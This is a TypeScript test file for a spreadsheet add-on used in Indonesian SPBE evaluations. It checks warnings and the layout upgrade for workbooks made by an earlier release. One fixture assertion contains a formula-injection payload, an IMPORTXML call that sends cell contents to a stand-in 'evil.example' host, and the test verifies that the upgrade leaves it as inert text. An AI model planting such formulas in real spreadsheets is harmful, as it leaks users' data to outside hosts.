import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import ExcelJS from 'exceljs';
import { setupWorkbook } from '../../src/core/actions/setup/setup';
import { readEvaluation, stageScores } from '../../src/core/evaluation/evaluation';
import { evaluationWarnings } from '../../src/core/evaluation/evaluation-warnings';
import { readEntries } from '../../src/core/evidence/findings-input';
import { loadContext } from '../../src/core/workbook/context';
import { isFormula } from '../../src/core/workbook/port';
import { XlsxWorkbook } from '../../src/xlsx/xlsx-workbook';
import { describeWithLibreOffice, recalculatedAfresh } from '../support/libreoffice';

/**
 * Workbooks made by an earlier release (layout 1: the OPD tab's Aspek third and Status after
 * Jenis bukti), kept as it wrote them (test/fixtures/earlier-release/README.md), each with
 * what a user did since: the Rekap's Mandiri index typed over with 4,5; Bappeda's Tingkat
 * header renamed, and a Log into which that release let a PIC's formula as a live one. The
 * engine reads them as their own formulas do, warns at each cell, and Siapkan upgrades them
 * with nothing lost.
 */
const FIXTURES = path.join(__dirname, '..', 'fixtures', 'earlier-release');
const ADMIN = 'kominfo.admin@example.org';
const CLOCK = { today: '2026-12-05', timestamp: '2026-12-05 09:00', year: 2026 };

async function opened(name: string) {
  return XlsxWorkbook.load(path.join(FIXTURES, name), ADMIN);
}

function figures(wb: XlsxWorkbook) {
  const ev = readEvaluation(wb, loadContext(wb, 2026));
  return {
    ev,
    mandiri: stageScores(ev).find((s) => s.key === 'selfAssessed'),
    warnings: evaluationWarnings(wb, ev).map((w) => `${w.cell}: ${w.problem}`),
  };
}

describe('a workbook made by an earlier release', () => {
  it('warns at the Rekap cell typed over, and says the layout is older', async () => {
    const { mandiri, warnings } = figures(await opened('rekap-typed-over.xlsx'));
    expect(mandiri?.index).toBe(2.03);
    expect(warnings).toEqual([
      expect.stringMatching(
        /^Pengaturan!A1: Workbook ini disiapkan oleh versi add-on sebelumnya \(tata letak 1; versi ini memakai tata letak 2\)/,
      ),
      expect.stringMatching(/^Rekap!C5: Sel ini berisi '4,5', bukan rumus Rekap/),
    ]);
  });

  it('reads a renamed header where that release put the column, as its formulas do, and says so', async () => {
    const { mandiri, warnings } = figures(await opened('header-renamed.xlsx'));
    // Bappeda's five claims still count: read from column D, that release's Tingkat.
    expect(mandiri?.index).toBe(2.03);
    expect(mandiri?.notAssessed).toBe(1);
    expect(warnings).toContainEqual(
      expect.stringMatching(/^Bappeda!D4: Judul kolom 'Tingkat klaim', bukan 'Tingkat'/),
    );
  });

  it('is upgraded by Siapkan: a snapshot first, every answer kept, its copies made words', async () => {
    const wb = await opened('header-renamed.xlsx');
    const ctx = loadContext(wb, 2026);
    const answers = (w: XlsxWorkbook) =>
      readEntries(w, loadContext(w, 2026))
        .map((e) => [
          e.opd.code,
          e.indicator.code,
          e.level,
          e.explanation,
          e.links.map((l) => l.text),
        ])
        .sort((a, b) => String(a.slice(0, 2)).localeCompare(String(b.slice(0, 2))));
    const before = answers(wb);
    expect(before.filter((a) => a[0] === 'BAPPEDA').every((a) => a[2] !== null)).toBe(true);
    const report = setupWorkbook(wb, CLOCK);
    expect(report.migrated).toEqual([
      expect.stringMatching(/^Tata letak 2: rumus yang dulu tersalin dari isian pengguna/),
    ]);
    expect(answers(wb)).toEqual(before);
    expect(wb.property('spbe.layoutVersion')).toBe('2');
    // Laid out as this release does, the renamed header back in its place.
    const header = wb.read('Bappeda')?.cells[3];
    expect(header?.slice(0, 5)).toEqual([
      'Kode',
      'Indikator',
      'Status',
      'Catatan verifikator',
      'Tingkat',
    ]);
    // What people typed was kept first; the Log holds no live formula any more.
    const snapshot = wb.read('_Snapshot')?.cells ?? [];
    expect(snapshot[1]?.[2]).toBe('sebelum pembaruan tata letak');
    const log = wb.read('Log')?.cells ?? [];
    expect(log.flat().some(isFormula)).toBe(false);
    expect(log.flat()).toContain('=IMPORTXML("https://evil.example/?q="&A1;"//a")');
    const after = figures(wb);
    expect(after.mandiri?.index).toBe(2.03);
    expect(after.warnings).toEqual([]);
    expect(ctx.catalogue.id).toBe('spbe-2020');
  });
});

describeWithLibreOffice('the earlier release’s own formulas, recalculated by LibreOffice', () => {
  it('give the Mandiri index the engine reads, the renamed header notwithstanding', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'spbe-earlier-'));
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(path.join(FIXTURES, 'header-renamed.xlsx'));
    const rekap =
      (await recalculatedAfresh(book, path.join(dir, 'bare.xlsx'), ['Rekap'])).get('Rekap') ?? [];
    const header = rekap.findIndex((r) => r[0] === 'Bagian');
    const mandiri = (rekap[header] ?? []).indexOf('Mandiri');
    const index = rekap.find((r, i) => i > header && r[0] === 'Indeks SPBE')?.[mandiri];
    expect(Number(index)).toBe(figures(await opened('header-renamed.xlsx')).mandiri?.index);
  }, 120_000);
});
